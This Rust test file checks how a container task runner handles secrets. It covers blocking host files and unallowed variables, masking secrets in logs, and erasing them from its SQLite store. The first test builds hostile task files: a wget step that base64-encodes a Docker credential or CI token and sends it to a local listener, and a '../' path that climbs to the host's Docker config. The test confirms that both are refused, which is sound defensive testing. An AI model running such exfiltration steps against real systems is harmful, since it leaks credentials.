//! What a task file may read as a secret, what is masked, and where secrets are kept: a task
//! file from someone's repository gets no host file and no variable its task did not allow,
//! and no run row keeps a secret's value.

use std::io::{Read, Write};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use crate::harness::{TestEnv, busybox_image, stderr, stdout};

/// An HTTP listener on loopback that answers every request with 200 and counts the bytes
/// anyone sent it (where a hostile step would deliver what it read).
fn listener() -> (u16, Arc<AtomicUsize>) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let received = Arc::new(AtomicUsize::new(0));
    let count = received.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut buf = [0u8; 65536];
            let n = stream.read(&mut buf).unwrap_or(0);
            count.fetch_add(n, Ordering::SeqCst);
            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
        }
    });
    (port, received)
}

/// The log of the newest run.
fn last_log(env: &TestEnv) -> String {
    stdout(&env.ok(&["task", "logs"]))
}

#[test]
fn a_task_file_from_a_repository_cannot_send_out_host_files_or_variables() {
    let env = TestEnv::builder().registry().build();
    let image = busybox_image(&env);
    let (port, received) = listener();
    let docker_config = env.path_of_home(".docker/config.json");
    std::fs::create_dir_all(docker_config.parent().unwrap()).unwrap();
    std::fs::write(
        &docker_config,
        r#"{"auths":{"registry.example":{"auth":"dXNlcjpob3N0LXBhc3N3b3Jk"}}}"#,
    )
    .unwrap();
    let send = |what: &str| {
        format!(
            "  - cmd: {image} wget -q -O /dev/null http://127.0.0.1:{port}/{{{{.Secrets.{what} | b64enc}}}}\n"
        )
    };
    let host_file = format!(
        "version: v1.1.0\nsecrets:\n  - id: c\n    file: {}\nsteps:\n{}",
        docker_config.display(),
        send("c")
    );
    let climbing = format!(
        "version: v1.1.0\nsecrets:\n  - id: c\n    file: ../../../../../../../../..{}\nsteps:\n{}",
        docker_config.display(),
        send("c")
    );
    let variable = format!(
        "version: v1.1.0\nsecrets:\n  - id: t\n    env: CI_DEPLOY_TOKEN\nsteps:\n{}  - cmd: {image} echo b64={{{{.Secrets.t | b64enc}}}} up={{{{.Secrets.t | upper}}}}\n",
        send("t")
    );
    let repo = env.git_repo(
        "hostile-repo",
        &[
            ("host.yaml", &host_file),
            ("climb.yaml", &climbing),
            ("env.yaml", &variable),
        ],
    );
    let token = "ci-deploy-token-s3cret";
    for (task, file, why) in [
        ("hostfile", "host.yaml", "outside the context"),
        ("climbing", "climb.yaml", "outside the context"),
        ("variable", "env.yaml", "CI_DEPLOY_TOKEN"),
    ] {
        env.ok(&[
            "task", "create", "-n", task, "-c", &repo, "-f", file, "-o", "none",
        ]);
        let out = env
            .acrt()
            .args(["task", "run", "-n", task])
            .env("CI_DEPLOY_TOKEN", token)
            .output()
            .unwrap();
        let shown = format!("{}{}", stdout(&out), stderr(&out));
        assert!(!out.status.success(), "{task} ran: {shown}");
        assert!(shown.contains(why), "{task}: {shown}");
        assert!(
            !shown.contains("Executing step"),
            "{task}: a step ran: {shown}"
        );
        assert_eq!(received.load(Ordering::SeqCst), 0, "{task} sent: {shown}");
    }
    let run = env.json(&[
        "task",
        "list-runs",
        "-n",
        "variable",
        "--top",
        "1",
        "--query",
        "[0]",
    ]);
    let message = run["runErrorMessage"].as_str().unwrap_or_default();
    assert!(
        message.contains("--secret-env CI_DEPLOY_TOKEN") && run["steps"].is_null(),
        "{run}"
    );

    // Allowed by the task's owner, the variable is read, and every copy of it is masked.
    env.ok(&[
        "task",
        "update",
        "-n",
        "variable",
        "--secret-env",
        "CI_DEPLOY_TOKEN",
        "-o",
        "none",
    ]);
    let out = env
        .acrt()
        .args(["task", "run", "-n", "variable"])
        .env("CI_DEPLOY_TOKEN", token)
        .output()
        .unwrap();
    let log = stdout(&out);
    assert!(out.status.success(), "{log}{}", stderr(&out));
    assert!(
        received.load(Ordering::SeqCst) > 0,
        "the allowed step ran: {log}"
    );
    use base64::Engine as _;
    let b64 = base64::engine::general_purpose::STANDARD.encode(token);
    assert!(log.contains("b64=*** up=***"), "{log}");
    for copy in [token.to_string(), b64, token.to_uppercase()] {
        assert!(!log.contains(&copy), "{copy} in the log: {log}");
        assert!(!last_log(&env).contains(&copy));
    }
}

#[test]
fn every_task_file_may_read_the_variables_the_config_allows() {
    let env = TestEnv::builder().registry().build();
    let image = busybox_image(&env);
    let dir = env.dir_with(
        "allowed",
        &[(
            "acb.yaml",
            &format!(
                "version: v1.1.0\nsecrets:\n  - id: t\n    env: SHARED_TOKEN\nsteps:\n  - cmd: {image} sh -c \"echo len=${{#T}}\"\n    env: [\"T={{{{.Secrets.t}}}}\"]\n"
            ),
        )],
    );
    let run = |env: &TestEnv| {
        env.acrt()
            .args(["run", "-f", "acb.yaml"])
            .arg(&dir)
            .env("SHARED_TOKEN", "shared-s3cret")
            .output()
            .unwrap()
    };
    let out = run(&env);
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("core.secret_env=SHARED_TOKEN"),
        "{}",
        stderr(&out)
    );
    env.ok(&["config", "set", "core.secret_env=OTHER,SHARED_TOKEN"]);
    let out = run(&env);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stdout(&out).contains("len=13"), "{}", stdout(&out));
    env.ok(&["config", "set", "core.secret_env=NOT-A-NAME"]);
    let err = env.fails(&["run", "-f", "acb.yaml", dir.to_str().unwrap()], 2);
    assert!(err.contains("core.secret_env"), "{err}");
}

#[test]
fn a_secret_cut_by_the_error_excerpt_is_masked_first() {
    let env = TestEnv::new();
    // The YAML error points past the secret; an excerpt cut around it starts inside it.
    let secret = format!("s3cret-{}", "x7".repeat(50));
    let dir = env.dir_with(
        "cut",
        &[(
            "acb.yaml",
            "version: v1.1.0\nsecrets:\n  - id: t\n    env: LONG_TOKEN\nsteps:\n  - cmd: \"{{.Secrets.t}}\" : : x\n",
        )],
    );
    let out = env
        .acrt()
        .args(["run", "-f", "acb.yaml", "--secret-env", "LONG_TOKEN"])
        .arg(&dir)
        .env("LONG_TOKEN", &secret)
        .output()
        .unwrap();
    assert!(!out.status.success());
    let run = env.json(&["task", "list-runs", "--top", "1", "--query", "[0]"]);
    let shown = format!("{}{}{run}{}", stdout(&out), stderr(&out), last_log(&env));
    assert!(shown.contains("***"), "{shown}");
    assert!(
        !shown.contains("x7x7x7"),
        "part of the secret shown: {shown}"
    );
}

/// A context whose image records the sha256 of its build secret TOKEN.
fn secret_recording_context(env: &TestEnv) -> std::path::PathBuf {
    env.busybox_context(
        "records-secret",
        &[(
            "Dockerfile",
            "FROM scratch\nCOPY busybox /bin/busybox\n\
             RUN --mount=type=secret,id=TOKEN [\"/bin/busybox\", \"sh\", \"-c\", \
             \"/bin/busybox sha256sum /run/secrets/TOKEN | /bin/busybox cut -c1-64 > /token.sum\"]\n",
        )],
    )
}

fn sha256(text: &str) -> String {
    use sha2::Digest as _;
    format!("{:x}", sha2::Sha256::digest(text.as_bytes()))
}

#[test]
fn run_rows_keep_no_secret_argument_and_runs_read_the_current_one() {
    let env = TestEnv::builder().registry().build();
    let reg = env.registry(0).addr.clone();
    let context = secret_recording_context(&env);
    let image = format!("{reg}/secrets/app:1");
    env.ok(&[
        "task",
        "create",
        "-n",
        "secretive",
        "-c",
        context.to_str().unwrap(),
        "-t",
        &image,
        "--secret-arg",
        "TOKEN=first-s3cret-value",
        // A secret is no part of a layer's cache key.
        "--no-cache",
        "-o",
        "none",
    ]);
    env.ok(&["task", "run", "-n", "secretive", "--no-logs", "-o", "none"]);
    assert_eq!(
        env.file_in_image(&image, "/token.sum", None),
        sha256("first-s3cret-value")
    );

    // Rotated: the next run reads the task as it is now.
    env.ok(&[
        "task",
        "update",
        "-n",
        "secretive",
        "--secret-arg",
        "TOKEN=rotated-s3cret-value",
        "-o",
        "none",
    ]);
    env.ok(&["task", "run", "-n", "secretive", "--no-logs", "-o", "none"]);
    assert_eq!(
        env.file_in_image(&image, "/token.sum", None),
        sha256("rotated-s3cret-value")
    );

    // A one-off value reaches a detached worker, and only it.
    let queued = env.json(&[
        "task",
        "run",
        "-n",
        "secretive",
        "--secret-arg",
        "TOKEN=one-off-s3cret-value",
        "--no-wait",
    ]);
    let run_id = queued["runId"].as_str().unwrap().to_string();
    crate::harness::wait_until(
        "the detached run ends",
        std::time::Duration::from_secs(300),
        || {
            let run = env.json(&["task", "show-run", "--run-id", &run_id]);
            !matches!(run["status"].as_str(), Some("Queued" | "Running"))
        },
    );
    let run = env.json(&["task", "show-run", "--run-id", &run_id]);
    assert_eq!(run["status"], "Succeeded", "{run}");
    assert_eq!(
        env.file_in_image(&image, "/token.sum", None),
        sha256("one-off-s3cret-value")
    );

    env.ok(&["task", "delete", "-n", "secretive", "--yes"]);
    let store = std::fs::read(env.state_dir().join("acrt.db")).unwrap();
    let wal = std::fs::read(env.state_dir().join("acrt.db-wal")).unwrap_or_default();
    for secret in [
        "first-s3cret-value",
        "rotated-s3cret-value",
        "one-off-s3cret-value",
    ] {
        for (name, bytes) in [("acrt.db", &store), ("acrt.db-wal", &wal)] {
            assert!(
                !bytes.windows(secret.len()).any(|w| w == secret.as_bytes()),
                "{secret} is still in {name}"
            );
        }
    }
}

/// A connection to the store held open, as a watcher holds one: the WAL then outlives
/// each acrt command. Open once it has read from the store; closed when dropped.
struct OpenReader(std::process::Child);

impl OpenReader {
    fn new(env: &TestEnv) -> OpenReader {
        use std::io::BufRead as _;
        let mut child = std::process::Command::new("sqlite3")
            .arg(env.state_dir().join("acrt.db"))
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .expect("sqlite3 is needed: run scripts/setup");
        let stdin = child.stdin.as_mut().unwrap();
        stdin
            .write_all(b"SELECT 'open', count(*) FROM tasks;\n")
            .unwrap();
        stdin.flush().unwrap();
        let mut line = String::new();
        std::io::BufReader::new(child.stdout.as_mut().unwrap())
            .read_line(&mut line)
            .unwrap();
        assert!(line.starts_with("open"), "{line}");
        OpenReader(child)
    }
}

impl Drop for OpenReader {
    fn drop(&mut self) {
        drop(self.0.stdin.take());
        let _ = self.0.wait();
    }
}

#[test]
fn a_removed_password_is_gone_from_the_store_file() {
    let env = TestEnv::new();
    env.create_task("withlogin", &[]);
    let _watcher = OpenReader::new(&env);
    let password = "removed-pa55word-4f9e1";
    let out = env.run_with_stdin(
        &[
            "task",
            "credential",
            "add",
            "-n",
            "withlogin",
            "--login-server",
            "reg.example.com",
            "-u",
            "someone",
            "--password-stdin",
        ],
        password,
    );
    assert!(out.status.success(), "{}", stderr(&out));
    env.ok(&[
        "task",
        "credential",
        "remove",
        "-n",
        "withlogin",
        "--login-server",
        "reg.example.com",
    ]);
    for file in ["acrt.db", "acrt.db-wal"] {
        let bytes = std::fs::read(env.state_dir().join(file)).unwrap_or_default();
        assert!(
            !bytes
                .windows(password.len())
                .any(|w| w == password.as_bytes()),
            "the removed password is still in {file}"
        );
    }
}

#[test]
fn secrets_can_come_from_the_environment_and_stdin_instead_of_argv() {
    let env = TestEnv::builder().registry().build();
    let image = busybox_image(&env);
    let dir = env.dir_with(
        "from-env",
        &[(
            "acb.yaml",
            &format!("version: v1.1.0\nsteps:\n  - cmd: {image} sh -c \"echo {{{{.Values.pw}}}} | sha256sum\"\n"),
        )],
    );
    let out = env
        .acrt()
        .args(["run", "-f", "acb.yaml", "--set-secret", "pw"])
        .arg(&dir)
        .env("pw", "env-s3cret")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains(&sha256("env-s3cret\n")),
        "{}",
        stdout(&out)
    );

    let out = env.run_with_stdin(
        &[
            "task",
            "create",
            "-n",
            "gittoken",
            "-c",
            "https://example.com/org/app.git",
            "--git-access-token",
            "-",
            "-o",
            "none",
        ],
        "stdin-git-t0ken\n",
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let task = env.json(&["task", "show", "-n", "gittoken", "--with-secure-properties"]);
    assert_eq!(
        task["step"]["contextAccessToken"], "stdin-git-t0ken",
        "{task}"
    );
}

#[test]
fn a_key_vault_secret_takes_its_local_value_from_set_secret() {
    let env = TestEnv::builder().registry().build();
    let image = busybox_image(&env);
    let dir = env.dir_with(
        "keyvault",
        &[(
            "acb.yaml",
            &format!(
                "version: v1.1.0\nsecrets:\n  - id: token\n    keyvault: https://vault.vault.azure.net/secrets/token\nsteps:\n  - cmd: {image} sh -c \"echo len=${{#T}} value=$T\"\n    env: [\"T={{{{.Secrets.token}}}}\"]\n"
            ),
        )],
    );
    let dir_s = dir.to_str().unwrap();
    let err = env.fails(&["run", "-f", "acb.yaml", dir_s], 1);
    assert!(err.contains("--set-secret token=VALUE"), "{err}");

    let out = env.run(&[
        "run",
        "-f",
        "acb.yaml",
        "--set-secret",
        "token=kv-s3cret",
        dir_s,
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let log = stdout(&out);
    assert!(log.contains("len=9 value=***"), "{log}");
    assert!(!log.contains("kv-s3cret"), "{log}");

    // A task keeps it for its runs.
    let context = ["-c", dir_s, "-f", "acb.yaml"];
    env.ok(&[
        &["task", "create", "-n", "vault-task"][..],
        &context[..],
        &["--set-secret", "token=kv-t4sk"][..],
    ]
    .concat());
    env.ok(&["task", "run", "-n", "vault-task"]);
    let log = last_log(&env);
    assert!(log.contains("len=7 value=***"), "{log}");
    assert!(!log.contains("kv-t4sk"), "{log}");
}
